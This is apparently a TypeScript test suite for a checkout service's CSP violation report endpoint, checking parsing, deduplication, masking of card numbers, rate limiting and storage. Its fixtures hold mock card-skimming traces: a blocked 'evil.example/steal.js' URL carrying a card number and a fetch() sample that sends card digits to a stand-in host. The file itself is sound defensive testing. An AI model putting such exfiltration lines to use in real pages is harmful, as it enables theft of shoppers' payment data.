/**
 * The companion's CSP report endpoint (`POST /security-report`, security-report-route.ts):
 * both formats browsers send are read (bodies as Chromium and Firefox send them), each
 * violation is kept once per key and counted in the SQLite file and in PostgreSQL (also
 * when two pools record the same report at once), the merchant's `onSecurityReport` hears
 * each with `isNew`, and a hook that throws is logged and changes nothing. Refused: another
 * content type (415), a body over the limit (413), more reports per minute from one
 * address than allowed (429 with Retry-After), and unknown keys in the option. Nothing that
 * looks like a card number survives into what is stored, and URLs lose their query.
 */
import {after, describe, test} from 'node:test';
import assert from 'node:assert/strict';
import {existsSync, mkdtempSync, readFileSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import pg from 'pg';
import {
  CheckoutConfigError,
  SqlitePaymentStore,
  PostgresSecurityReportStore,
  SqliteSecurityReportStore,
  type SecurityReportEvent,
  type SecurityReportStore,
} from '../../../src/server/index.js';
import {
  parseSecurityReports,
  securityReportKey,
} from '../../../src/server/store/security-report-records.js';
import {StubGateway, inProcessApp} from './helpers.js';
import {IN_PROCESS_SKIP, PG_SKIP, PG_TEST_URL, dropSchemas, schemaName} from './postgres.js';

/** A Reporting API batch as Chromium sends it (`report-to`), one violation. */
const reportsJson = (blocked = 'https://evil.example/steal.js?cc=4242424242424242') => [
  {
    age: 12,
    type: 'csp-violation',
    url: 'https://shop.example/checkout?order=ord-1',
    user_agent: 'Mozilla/5.0 (Chromium)',
    body: {
      documentURL: 'https://shop.example/checkout?order=ord-1',
      blockedURL: blocked,
      effectiveDirective: 'script-src-elem',
      originalPolicy: "default-src 'none'; script-src 'self'; report-to csp-endpoint",
      disposition: 'enforce',
      sourceFile: 'https://shop.example/assets/app.js',
      lineNumber: 3,
      columnNumber: 14,
      sample: '',
      statusCode: 200,
      referrer: '',
    },
  },
  {age: 1, type: 'deprecation', url: 'https://shop.example/', body: {id: 'x'}},
];

/** A report as Firefox sends it (`report-uri`). */
const cspReport = {
  'csp-report': {
    'document-uri': 'https://shop.example/checkout',
    'blocked-uri': 'inline',
    'effective-directive': 'script-src-elem',
    'violated-directive': 'script-src-elem',
    'original-policy': "default-src 'none'; script-src 'self'; report-uri /r",
    disposition: 'enforce',
    'script-sample': 'fetch("https://x/?n=4111 1111 1111 1111")',
    'line-number': 1,
  },
};

const dirs: string[] = [];
after(async () => {
  for (const dir of dirs) rmSync(dir, {recursive: true, force: true});
  await dropSchemas();
});

function sqliteStore(): SqliteSecurityReportStore {
  const dir = mkdtempSync(path.join(tmpdir(), 'pg-security-reports-'));
  dirs.push(dir);
  return new SqliteSecurityReportStore({connection: new Database(path.join(dir, 'r.db'))});
}

function app(opts: {
  store?: SecurityReportStore;
  max?: number;
  hook?: (e: SecurityReportEvent) => void;
}) {
  return inProcessApp(new SqlitePaymentStore(':memory:'), new StubGateway(), {
    securityReports: {
      ...(opts.store ? {store: opts.store} : {}),
      ...(opts.hook ? {onSecurityReport: opts.hook} : {}),
      ...(opts.max ? {maxReportsPerMinute: opts.max} : {}),
    },
  });
}

const post = (a: ReturnType<typeof app>['app'], type: string, body: unknown) =>
  a.request('/security-report', {
    method: 'POST',
    headers: {'Content-Type': type, 'User-Agent': 'Mozilla/5.0 (test)'},
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });

describe('reading the reports', {skip: IN_PROCESS_SKIP}, () => {
  test('a Reporting API batch: its CSP violations only, URLs without their query, digit runs masked', () => {
    const reports = parseSecurityReports('application/reports+json', reportsJson());
    assert.deepEqual(reports, [
      {
        documentUrl: 'https://shop.example/checkout',
        blockedUrl: 'https://evil.example/steal.js',
        directive: 'script-src-elem',
        disposition: 'enforce',
        sourceFile: 'https://shop.example/assets/app.js',
        line: 3,
        column: 14,
        policy: "default-src 'none'; script-src 'self'; report-to csp-endpoint",
        userAgent: 'Mozilla/5.0 (Chromium)',
      },
    ]);
  });

  test('an application/csp-report body, its sample masked', () => {
    const [report] = parseSecurityReports('application/csp-report', cspReport, 'UA');
    assert.equal(report!.blockedUrl, 'inline');
    assert.equal(report!.sample, 'fetch("https://x/?n=[digits]")');
    assert.equal(report!.userAgent, 'UA');
    assert.doesNotMatch(JSON.stringify(report), /4111|4242/);
  });

  test("WebKit's shapes: one Reporting API report, or a csp-report with its type, both as csp-report", () => {
    const [one] = reportsJson();
    const webkitTo = parseSecurityReports('application/csp-report', one);
    assert.equal(webkitTo[0]!.blockedUrl, 'https://evil.example/steal.js');
    const webkitUri = parseSecurityReports('application/csp-report', {
      type: 'csp-violation',
      url: 'https://shop.example/checkout',
      ...cspReport,
    });
    assert.equal(webkitUri[0]!.blockedUrl, 'inline');
  });

  test('what is not a violation report reads as none', () => {
    for (const body of [
      null,
      1,
      'x',
      {},
      [{type: 'csp-violation'}],
      [{type: 'csp-violation', body: {}}],
    ]) {
      assert.deepEqual(parseSecurityReports('application/reports+json', body), []);
    }
    assert.deepEqual(parseSecurityReports('application/csp-report', {'csp-report': 1}), []);
    assert.deepEqual(
      parseSecurityReports('application/csp-report', [{type: 'deprecation', body: {}}]),
      [],
    );
  });

  test('one key per violation: the same from two browsers is one, another line another', () => {
    const [a] = parseSecurityReports('application/reports+json', reportsJson(), 'one');
    const b = {...a!, userAgent: 'another browser', policy: 'other'};
    const c = {...a!, line: 4};
    assert.equal(securityReportKey(a!), securityReportKey(b));
    assert.notEqual(securityReportKey(a!), securityReportKey(c));
  });
});

describe('POST /security-report', {skip: IN_PROCESS_SKIP}, () => {
  test('keeps each violation once and counts it, hands every one to the hook (204)', async () => {
    const store = sqliteStore();
    const heard: SecurityReportEvent[] = [];
    const {app: a} = app({store, hook: (e) => heard.push(e)});
    for (let i = 0; i < 3; i++) {
      assert.equal((await post(a, 'application/reports+json', reportsJson())).status, 204);
    }
    assert.equal((await post(a, 'application/csp-report; charset=utf-8', cspReport)).status, 204);
    assert.deepEqual(
      heard.map((e) => [e.isNew, e.count, e.report.directive, e.report.blockedUrl]),
      [
        [true, 1, 'script-src-elem', 'https://evil.example/steal.js'],
        [false, 2, 'script-src-elem', 'https://evil.example/steal.js'],
        [false, 3, 'script-src-elem', 'https://evil.example/steal.js'],
        [true, 1, 'script-src-elem', 'inline'],
      ],
    );
    const kept = await store.list();
    assert.deepEqual(kept.map((r) => [r.blockedUrl, r.count]).sort(), [
      ['https://evil.example/steal.js', 3],
      ['inline', 1],
    ]);
    assert.ok(kept.every((r) => r.firstSeen instanceof Date && r.lastSeen >= r.firstSeen));
    assert.doesNotMatch(JSON.stringify(kept), /4242|4111/);
  });

  test('a hook that throws is logged; the browser still gets 204, the report is kept', async () => {
    const store = sqliteStore();
    const {app: a, lines} = app({
      store,
      hook: () => {
        throw new Error('the alerting service is down');
      },
    });
    assert.equal((await post(a, 'application/reports+json', reportsJson())).status, 204);
    assert.equal((await store.list()).length, 1);
    assert.ok(
      lines.some((l) => l.includes('onSecurityReport failed') && l.includes('alerting service')),
    );
    assert.ok(lines.some((l) => l.includes('a new CSP violation on the payment page')));
  });

  test('without a store: logged once per key, and the hook hears it', async () => {
    const heard: boolean[] = [];
    const {app: a, lines} = app({hook: (e) => heard.push(e.isNew)});
    await post(a, 'application/reports+json', reportsJson());
    await post(a, 'application/reports+json', reportsJson());
    assert.deepEqual(heard, [true, false]);
    assert.equal(lines.filter((l) => l.includes('a new CSP violation')).length, 1);
  });

  test('refuses another content type (415), a body over the limit (413), bad JSON (400)', async () => {
    const {app: a} = app({store: sqliteStore()});
    assert.equal((await post(a, 'application/json', reportsJson())).status, 415);
    assert.equal((await post(a, 'text/plain', 'x')).status, 415);
    const big = [...reportsJson(), {type: 'x', body: {pad: 'x'.repeat(70 * 1024)}}];
    assert.equal((await post(a, 'application/reports+json', big)).status, 413);
    assert.equal((await post(a, 'application/reports+json', '{')).status, 400);
  });

  test('counts reports per client address per minute: past the limit, 429 with Retry-After', async () => {
    const store = sqliteStore();
    const {app: a} = app({store, max: 3});
    for (let i = 0; i < 3; i++) {
      assert.equal((await post(a, 'application/csp-report', cspReport)).status, 204);
    }
    const refused = await post(a, 'application/csp-report', cspReport);
    assert.equal(refused.status, 429);
    const wait = Number(refused.headers.get('retry-after'));
    assert.ok(wait >= 1 && wait <= 60, `Retry-After ${wait}`);
    assert.equal((await store.list())[0]!.count, 3);
  });

  test('an unknown key in the option is an error at start-up that names it', () => {
    assert.throws(
      () =>
        inProcessApp(new SqlitePaymentStore(':memory:'), new StubGateway(), {
          securityReports: {onSecurityReports: () => undefined} as never,
        }),
      (e: unknown) => e instanceof CheckoutConfigError && /securityReports/.test(e.message),
    );
  });
});

describe('PostgresSecurityReportStore', {skip: PG_SKIP}, () => {
  test('keeps one row per key and counts every sighting, from two pools at once', async () => {
    const schema = schemaName('reports');
    const pools = [
      new pg.Pool({connectionString: PG_TEST_URL}),
      new pg.Pool({connectionString: PG_TEST_URL}),
    ];
    try {
      const stores = pools.map((pool) => new PostgresSecurityReportStore({pool, schema}));
      const [report] = parseSecurityReports('application/reports+json', reportsJson());
      const key = securityReportKey(report!);
      const at = new Date(1_800_000_000_000);
      const results = await Promise.all(
        Array.from({length: 20}, (_, i) => stores[i % 2]!.record(key, report!, at)),
      );
      assert.deepEqual(
        results.map((r) => r.count).sort((x, y) => x - y),
        Array.from({length: 20}, (_, i) => i + 1),
      );
      assert.equal(results.filter((r) => r.isNew).length, 1);
      const [row] = await stores[0]!.list();
      assert.equal(row!.count, 20);
      assert.equal(row!.blockedUrl, 'https://evil.example/steal.js');
      assert.deepEqual([row!.firstSeen, row!.lastSeen], [at, at]);
    } finally {
      await Promise.all(pools.map((p) => p.end()));
    }
  });
});

describe('rows an older version wrote', () => {
  /** A report as the previous rule stored it: its escaped spaces and its line number. */
  const OLD = {
    documentUrl: 'https://shop.example/checkout',
    blockedUrl: 'https://evil.example/c/4242%204242%204242%204242',
    directive: 'script-src-elem',
    disposition: 'enforce',
    line: 4242424242424242,
    sample: '3782.822463.10005',
  };
  const masked = {
    ...OLD,
    blockedUrl: 'https://evil.example/c/[digits]',
    sample: '[digits]',
    line: undefined,
  };
  const plain = (r: object) => JSON.parse(JSON.stringify(r)) as Record<string, unknown>;
  const pick = (r: object) => {
    const {documentUrl, blockedUrl, directive, disposition, line, sample} = r as typeof OLD;
    return plain({documentUrl, blockedUrl, directive, disposition, line, sample});
  };

  test('SqliteSecurityReportStore masks them again when it opens the file', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'pg-security-reports-old-'));
    dirs.push(dir);
    const file = path.join(dir, 'r.db');
    const db = new Database(file);
    // As the example opens its file: the old row is in the WAL, then in the file.
    db.pragma('journal_mode = WAL');
    db.exec(`CREATE TABLE pg_security_reports (key TEXT PRIMARY KEY, first_seen INTEGER NOT NULL,
      last_seen INTEGER NOT NULL, count INTEGER NOT NULL, report TEXT NOT NULL) STRICT`);
    db.prepare('INSERT INTO pg_security_reports VALUES (?, 1, 1, 1, ?)').run(
      'k',
      JSON.stringify(OLD),
    );
    db.close();
    const store = new SqliteSecurityReportStore({filename: file});
    const [row] = await store.list();
    // While the store is open: neither the file nor its WAL holds the old text.
    for (const f of [file, `${file}-wal`].filter((f) => existsSync(f))) {
      const bytes = readFileSync(f).toString('latin1');
      assert.doesNotMatch(bytes, /4242%204242|4242424242424242|3782\.822463/, f);
    }
    await store.close();
    assert.deepEqual(pick(row!), plain(masked));
  });

  test('PostgresSecurityReportStore masks them again on first use', {skip: PG_SKIP}, async () => {
    const schema = schemaName('reports_old');
    const pool = new pg.Pool({connectionString: PG_TEST_URL});
    try {
      await pool.query(`CREATE SCHEMA "${schema}"`);
      await pool.query(`CREATE TABLE "${schema}".pg_security_reports (key TEXT PRIMARY KEY,
        first_seen BIGINT NOT NULL, last_seen BIGINT NOT NULL, count INTEGER NOT NULL,
        report JSONB NOT NULL)`);
      await pool.query(`INSERT INTO "${schema}".pg_security_reports VALUES ('k', 1, 1, 1, $1)`, [
        JSON.stringify(OLD),
      ]);
      const [row] = await new PostgresSecurityReportStore({pool, schema}).list();
      assert.deepEqual(pick(row!), plain(masked));
    } finally {
      await pool.end();
    }
  });
});
